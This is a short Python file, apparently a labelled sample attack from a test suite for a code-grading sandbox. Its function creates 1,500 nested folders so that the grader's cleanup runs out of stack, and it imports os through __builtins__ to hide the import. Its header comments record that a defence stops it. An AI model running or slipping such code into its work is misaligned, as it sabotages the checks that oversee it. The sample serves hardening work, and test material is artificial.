# tries: to break whoever removes its folder: 1,500 folders, each in the one before
# fails: the box goes as a whole, without one call for each level
# goal: exhaust
# stopped from: T0
# undefended: elsewhere: the end of a grader that runs out of stack while it tidies up
# touches: one function
os = __builtins__["__import__"]("os")


def attack(*arguments, **keywords):
    for _ in range(1500):
        os.mkdir("deeper")
        os.chdir("deeper")
    return 0
